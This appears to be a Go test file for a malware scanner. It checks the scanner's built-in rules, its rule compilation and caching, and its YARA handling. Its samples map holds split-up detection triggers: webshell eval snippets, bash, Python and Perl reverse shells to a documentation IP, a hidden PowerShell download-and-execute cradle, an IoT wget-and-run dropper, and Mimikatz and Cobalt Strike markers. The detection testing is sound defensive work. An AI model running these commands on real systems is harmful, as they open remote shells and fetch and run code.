package rules_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/showcause/showcause"
	"github.com/showcause/showcause/ruledb"
	"github.com/showcause/showcause/rules"
	"github.com/showcause/showcause/scan"
	"github.com/showcause/showcause/yara/module"
	"github.com/showcause/showcause/yara/source"
)

// samples fire each rule. They are written in pieces ("~" is taken out) so that
// no file of the project holds what the rules look for.
var samples = map[string]string{
	"Showcause.Test.EICAR":              `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-~ANTIVIRUS-TEST-FILE!$H+H*`,
	"Showcause.Webshell.PHP.EvalInput":  "<?php Ev~al($_PO~ST['x']); ?>",
	"Showcause.Webshell.PHP.EvalPacked": "<?php ev~al(gzin~flate(base64_de~code('abc'))); ?>",
	"Showcause.Webshell.JSP.ExecInput":  `<% Runtime.getRun~time().exec(request.getPara~meter("c")); %>`,
	"Showcause.Webshell.ASP.EvalInput":  `<%@ Page Language="Jscript"%><%ev~al(Request.It~em["x"],"unsafe");%>`,
	"Showcause.ReverseShell.Bash":       "bash -~i >& /dev/t~cp/192.0.2.1/4444 0>~&1",
	"Showcause.ReverseShell.Python":     "s=socket.socket(socket.AF_INET,socket.SOCK_ST~REAM);s.conn~ect((\"192.0.2.1\",1));os.du~p2(s.fileno(),0);pty.sp~awn(\"/bin/sh\")",
	"Showcause.ReverseShell.Perl":       `use Soc~ket;connect(S,$a);open(STD~IN,">&S");exec("/bin/~sh -i");`,
	"Showcause.Downloader.PowerShell":   "powershell -w hid~den IE~X (New-Object Net.Web~Client).Download~String('http://192.0.2.1/a')",
	"Showcause.Dropper.IoT.Shell":       "cd /tmp || cd /var/~run || cd /m~nt; wget http:/~/192.0.2.1/a; chmod 77~7 a; ./a",
	"Showcause.HackTool.Mimikatz":       "MZ" + wide("seku~rlsa") + wide("logon~passwords") + wide("gentil~kiwi"),
	"Showcause.Backdoor.Meterpreter":    "MZ met~srv.dll Reflective~Loader",
	"Showcause.Backdoor.CobaltStrike":   "MZ bea~con.x64.dll Reflective~Loader",
}

func wide(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteRune(r)
		if r != '~' {
			b.WriteByte(0)
		}
	}
	return b.String()
}

// program puts text into the smallest PE file that is one.
func program(text string) []byte {
	b := make([]byte, 0x200)
	copy(b, "MZ")
	le := binary.LittleEndian
	le.PutUint32(b[0x3c:], 0x40)
	copy(b[0x40:], "PE\x00\x00")
	le.PutUint16(b[0x44:], 0x14c) // machine: i386
	le.PutUint16(b[0x46:], 1)     // sections
	le.PutUint16(b[0x54:], 0xe0)  // size of the optional header
	le.PutUint16(b[0x56:], 0x102)
	opt := b[0x58:]
	le.PutUint16(opt, 0x10b)
	le.PutUint32(opt[16:], 0x1000) // entry point
	le.PutUint32(opt[28:], 0x400000)
	le.PutUint32(opt[32:], 0x1000)
	le.PutUint32(opt[36:], 0x200)
	le.PutUint32(opt[56:], 0x2000)
	le.PutUint32(opt[60:], 0x200)
	le.PutUint32(opt[92:], 16)
	sec := opt[0xe0:]
	copy(sec, ".text")
	le.PutUint32(sec[8:], uint32(len(text)))
	le.PutUint32(sec[12:], 0x1000)
	le.PutUint32(sec[16:], 0x200)
	le.PutUint32(sec[20:], 0x200)
	le.PutUint32(sec[36:], 0x60000020)
	return append(b, append([]byte(text), make([]byte, 0x200)...)...)
}

func TestBuiltin(t *testing.T) {
	db, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	s := scan.New(db, scan.Options{})
	names := func(b []byte) (out []string) {
		for _, f := range s.Scan(showcause.Bytes(b)).Findings {
			out = append(out, f.Rule)
		}
		return out
	}
	if db.Len() != len(samples) {
		t.Errorf("%d rules, %d samples", db.Len(), len(samples))
	}
	for name, text := range samples {
		b := []byte(strings.ReplaceAll(text, "~", ""))
		if text, ok := strings.CutPrefix(string(b), "MZ"); ok {
			b = program(text)
		}
		if got := names(b); len(got) != 1 || got[0] != name {
			t.Errorf("%s: found %v", name, got)
		}
		// What the rule looks for is not there once its parts are cut.
		if got := names([]byte(strings.ReplaceAll(text, "~", "\x00\x00"))); len(got) != 0 {
			t.Errorf("%s, in pieces: found %v", name, got)
		}
	}
}

// None of the project's own files has a finding: whoever watches the folder it is built in
// could not build it.
func TestBuiltinOnProject(t *testing.T) {
	db, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	s := scan.New(db, scan.Options{})
	files := 0
	err = filepath.WalkDir("..", func(path string, e fs.DirEntry, err error) error {
		if err == nil && e.IsDir() && e.Name() == ".git" {
			return filepath.SkipDir
		}
		if err == nil && !e.Type().IsRegular() {
			return nil
		}
		var b []byte
		if err == nil {
			b, err = os.ReadFile(path)
		}
		if errors.Is(err, fs.ErrNotExist) { // another test's
			return nil
		} else if err != nil {
			return err
		}
		files++
		for _, f := range s.Scan(showcause.Bytes(b)).Findings {
			t.Errorf("%s %s: %s", path, f.Trail, f.Rule)
		}
		return nil
	})
	if err != nil || files < 1000 {
		t.Errorf("%d files, %v", files, err)
	}
}

// The files of this machine are what "zero hits on a Debian system" is tried on.
func TestBuiltinOnSystem(t *testing.T) {
	if testing.Short() {
		t.Skip("reads /usr/bin, /usr/sbin and /usr/share/doc: left out by -short")
	}
	db, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	s := scan.New(db, scan.Options{})
	files := 0
	for _, root := range []string{"/usr/bin", "/usr/sbin", "/usr/share/doc"} {
		filepath.WalkDir(root, func(path string, e fs.DirEntry, err error) error {
			if err != nil || !e.Type().IsRegular() {
				return nil
			}
			b, err := os.ReadFile(path)
			if err != nil {
				return nil
			}
			files++
			for _, f := range s.Scan(showcause.Bytes(b)).Findings {
				t.Errorf("%s %s: %s", path, f.Trail, f.Rule)
			}
			return nil
		})
	}
	if files == 0 {
		t.Skip("no files in /usr/bin, /usr/sbin and /usr/share/doc")
	}
	t.Logf("%d files", files)
}

func TestCompileRefuses(t *testing.T) {
	dir := t.TempDir()
	if _, err := rules.Compile([]string{dir}, rules.Options{}); err == nil {
		t.Error("an empty folder compiles")
	}
	if _, err := rules.Compile([]string{filepath.Join(dir, "gone.ndb")}, rules.Options{}); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a missing file: %v", err)
	}
}

// A write that fails leaves the old file as it was, and nothing else.
func TestWriteKeepsOld(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "x.scdb")
	if err := rules.Write(path, []byte("old")); err != nil {
		t.Fatal(err)
	}
	if os.Getuid() != 0 {
		os.Chmod(dir, 0o500)
		defer os.Chmod(dir, 0o700)
		if err := rules.Write(path, []byte("new")); err == nil {
			t.Error("written to a folder that may not be written to")
		}
	}
	if err := rules.Write("/dev/full/x", []byte("new")); err == nil {
		t.Error("written below a device")
	}
	if b, err := os.ReadFile(path); err != nil || string(b) != "old" {
		t.Errorf("%q %v", b, err)
	}
	if files, _ := os.ReadDir(dir); len(files) != 1 {
		t.Errorf("files left over: %v", files)
	}
}

func TestCached(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	dir := t.TempDir()
	file := filepath.Join(dir, "a.ndb")
	write := func(s string) {
		if err := os.WriteFile(file, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	open := func() *ruledb.DB {
		t.Helper()
		db, warning, err := rules.Cached([]string{dir}, rules.Options{}, func() {})
		if err != nil || warning != nil {
			t.Fatal(err, warning)
		}
		return db
	}
	write("A:0:*:61626364\n")
	if db := open(); db.Len() != 1 {
		t.Errorf("%d rules", db.Len())
	}
	cache, _ := filepath.Glob(filepath.Join(os.Getenv("XDG_CACHE_HOME"), "showcause", "*.scdb"))
	if len(cache) != 1 {
		t.Fatalf("cache: %v", cache)
	}
	if db := open(); db.Len() != 1 {
		t.Errorf("from the cache: %d rules", db.Len())
	}
	write("A:0:*:61626364\nB:0:*:65666768\n")
	if db := open(); db.Len() != 2 {
		t.Errorf("after a change: %d rules", db.Len())
	}
	// A damaged entry is said and made again.
	for _, c := range cache {
		os.WriteFile(c, []byte("damage"), 0o644)
	}
	all, _ := filepath.Glob(filepath.Join(os.Getenv("XDG_CACHE_HOME"), "showcause", "*.scdb"))
	for _, c := range all {
		os.WriteFile(c, []byte("damage that is long enough to be looked at as a file"), 0o644)
	}
	db, warning, err := rules.Cached([]string{dir}, rules.Options{}, func() {})
	if err != nil || warning == nil || db.Len() != 2 {
		t.Errorf("damaged cache: %v, warning %v", err, warning)
	}
	// A cache that cannot be had.
	t.Setenv("XDG_CACHE_HOME", "/dev/null")
	db, warning, err = rules.Cached([]string{dir}, rules.Options{}, func() {})
	if err != nil || warning == nil || db.Len() != 2 {
		t.Errorf("no cache: %v, warning %v", err, warning)
	}
}

// What stands at the path decides: a file keeps its mode, a link its place,
// and what is no file is refused.
func TestWriteModes(t *testing.T) {
	dir := t.TempDir()
	path, link := filepath.Join(dir, "x.scdb"), filepath.Join(dir, "link")
	if err := os.WriteFile(path, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(path, link); err != nil {
		t.Fatal(err)
	}
	if err := rules.Write(link, []byte("new")); err != nil {
		t.Fatal(err)
	}
	st, err := os.Lstat(link)
	if err != nil || st.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("the link was replaced: %v %v", st.Mode(), err)
	}
	st, err = os.Stat(path)
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v %v", st.Mode(), err)
	}
	if b, _ := os.ReadFile(path); string(b) != "new" {
		t.Errorf("%q", b)
	}
	if err := rules.Write(dir, []byte("new")); err == nil {
		t.Error("a folder was written to")
	}
}

// write makes the files of a folder.
func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func compiled(t *testing.T, paths []string, o rules.Options) (*ruledb.DB, error) {
	t.Helper()
	data, err := rules.Compile(paths, o)
	if err != nil {
		return nil, err
	}
	db, err := ruledb.New(data)
	if err != nil {
		t.Fatal(err)
	}
	return db, nil
}

func found(db *ruledb.DB, data string) string {
	var out []string
	for _, f := range scan.New(db, scan.Options{}).Scan(showcause.Bytes(data)).Findings {
		info, _ := db.Info(f.Index)
		name := f.Rule
		if info.YARA != nil {
			name = info.YARA.Namespace + ":" + name
		}
		out = append(out, name)
	}
	return strings.Join(out, " ")
}

// ClamAV's rules and YARA's are one database; each file of a folder is a namespace.
func TestCompileYARA(t *testing.T) {
	dir := t.TempDir()
	const rule = `rule a { strings: $a = "needle" condition: $a }`
	writeFiles(t, dir, map[string]string{
		"set/x.ndb": "Clam.Needle:0:*:6e6565646c65\n", "set/one.yar": rule, "set/sub/two.yara": rule + ` rule b { condition: a }`,
		"set/sub/.hidden.yar": "nonsense", "set/readme.txt": "nonsense", "plain": rule,
	})
	set, plain := filepath.Join(dir, "set"), filepath.Join(dir, "plain")
	for _, c := range []struct {
		paths []string
		want  string
	}{
		{[]string{set}, "Clam.Needle.UNOFFICIAL one.yar:a sub/two.yara:a sub/two.yara:b"},
		{[]string{"ns:" + set}, "Clam.Needle.UNOFFICIAL ns/one.yar:a ns/sub/two.yara:a ns/sub/two.yara:b"},
		{[]string{filepath.Join(set, "sub")}, "two.yara:a two.yara:b"},
		{[]string{plain}, "default:a"},
		{[]string{"x:" + plain, "y:" + plain}, "x:a y:a"},
		{[]string{plain, filepath.Join(set, "x.ndb")}, "Clam.Needle.UNOFFICIAL default:a"},
	} {
		db, err := compiled(t, c.paths, rules.Options{})
		if err != nil {
			t.Errorf("%v: %v", c.paths, err)
			continue
		}
		have := strings.Fields(found(db, "a needle"))
		slices.Sort(have)
		if got := strings.Join(have, " "); got != c.want {
			t.Errorf("%v: %q, want %q", c.paths, got, c.want)
		}
		again, err := rules.Compile(c.paths, rules.Options{})
		first, _ := rules.Compile(c.paths, rules.Options{})
		if err != nil || !bytes.Equal(again, first) {
			t.Errorf("%v: compiled twice, not the same", c.paths)
		}
	}
	_, err := compiled(t, []string{plain, plain}, rules.Options{})
	var wrong *rules.RuleError
	if !errors.As(err, &wrong) || len(wrong.Diags) == 0 || !strings.Contains(err.Error(), "plain") {
		t.Errorf("one rule twice in a namespace: %v", err)
	}
}

// Where rules lie, and how their path is spelled, is not in the database.
func TestCompileElsewhere(t *testing.T) {
	base := t.TempDir()
	var first []byte
	for _, home := range []string{"alice", "bob/deep"} {
		dir := filepath.Join(base, home)
		writeFiles(t, dir, map[string]string{
			"set/x.ndb": "Clam.Needle:0:*:6e6565646c65\n", "set/sub/two.yara": `rule two { condition: true }`, "set/sub/empty.yar": "",
			"inc.yar":       `include "part/part.inc" include "far.inc" include "` + filepath.Join(dir, "abs.inc") + `" rule a { condition: part and far and abs }`,
			"part/part.inc": `include "../up.inc" rule part { condition: up }`, "up.inc": `rule up { condition: true }`,
			"libs/far.inc": `rule far { condition: true }`, "abs.inc": `rule abs { condition: true }`,
		})
		t.Chdir(dir)
		for _, set := range [][]string{
			{filepath.Join(dir, "set"), filepath.Join(dir, "inc.yar")}, {"set", "inc.yar"}, {"./set/", "./part/../inc.yar"},
		} {
			data, err := rules.Compile(set, rules.Options{IncludeDirs: []string{filepath.Join(dir, "libs")}})
			if err != nil {
				t.Fatal(err)
			}
			if bytes.Contains(data, []byte(base)) || bytes.Contains(data, []byte("alice")) {
				t.Errorf("%v: the database tells where its rules were", set)
			}
			if first == nil {
				first = data
			}
			if !bytes.Equal(data, first) {
				t.Errorf("%s: %v: another database", home, set)
			}
		}
	}
	db, err := ruledb.New(first)
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for i := range db.Len() {
		info, err := db.Info(uint32(i))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, info.Name+" "+info.File)
	}
	slices.Sort(files)
	if got, want := strings.Join(files, ", "), "Clam.Needle.UNOFFICIAL x.ndb, a inc.yar, abs abs.inc, far far.inc, part part/part.inc, two sub/two.yara, up up.inc"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

func TestCompileYARAOptions(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"ext.yar": `rule a { condition: who == "me" }`, "inc.yar": `include "sub/part.yar" rule a { condition: part }`,
		"sub/part.yar": `rule part { condition: true }`, "far.yar": `include "part.yar" rule a { condition: part }`,
		"slow.yar": `rule a { strings: $a = /[^a]+[^b]{2,}/ condition: $a }`, "old.yar": `rule a { condition: for all x in (1.0, 2.0) : (x > 0.0) }`,
	})
	path := func(name string) []string { return []string{filepath.Join(dir, name)} }
	me := map[string]module.Value{"who": module.TextValue("me")}
	for _, c := range []struct {
		name string
		o    rules.Options
		want string // "" is an error
	}{
		{"ext.yar", rules.Options{}, ""},
		{"ext.yar", rules.Options{Externals: me}, "default:a"},
		{"inc.yar", rules.Options{}, "default:part default:a"},
		{"inc.yar", rules.Options{NoIncludes: true}, ""},
		{"far.yar", rules.Options{}, ""},
		{"far.yar", rules.Options{IncludeDirs: []string{filepath.Join(dir, "sub")}}, "default:part default:a"},
		{"old.yar", rules.Options{Dialect: source.YARA}, ""},
		{"old.yar", rules.Options{Dialect: source.YARAX}, "default:a"},
	} {
		db, err := compiled(t, path(c.name), c.o)
		switch {
		case (c.want == "") != (err != nil):
			t.Errorf("%s: %v", c.name, err)
		case err == nil:
			if got := found(db, "x"); got != c.want {
				t.Errorf("%s: %q, want %q", c.name, got, c.want)
			}
		}
	}
	var slow []string
	if _, err := compiled(t, path("slow.yar"), rules.Options{Slow: func(s string) { slow = append(slow, s) }}); err != nil || len(slow) != 1 || !strings.Contains(slow[0], "slow.yar:1: rule a, string $a") {
		t.Errorf("%v %q", err, slow)
	}
}

// A cached database is made again when a file that is included changes, and when
// the options do.
func TestCachedIncludes(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"a.yar": `include "b/b.inc" rule a { condition: b and n > 1 }`, "b/b.inc": `rule b { condition: true }`})
	o := rules.Options{Externals: map[string]module.Value{"n": module.IntValue(2)}}
	times := 0
	open := func() string {
		t.Helper()
		db, warning, err := rules.Cached([]string{dir}, o, func() { times++ })
		if err != nil || warning != nil {
			t.Fatal(err, warning)
		}
		defer db.Close()
		return found(db, "x")
	}
	for i, c := range []struct {
		change func()
		times  int
		want   string
	}{
		{func() {}, 1, "a.yar:b a.yar:a"},
		{func() {}, 1, "a.yar:b a.yar:a"},
		{func() { writeFiles(t, dir, map[string]string{"b/b.inc": `rule b { condition: filesize > 5 }`}) }, 2, ""},
		{func() { o.Externals = map[string]module.Value{"n": module.IntValue(1)} }, 3, ""},
		{func() { writeFiles(t, dir, map[string]string{"b/b.inc": `rule b { condition: true }`}) }, 4, "a.yar:b"},
	} {
		c.change()
		if got := open(); got != c.want || times != c.times {
			t.Errorf("%d: %q, compiled %d times; want %q, %d", i, got, times, c.want, c.times)
		}
	}
}
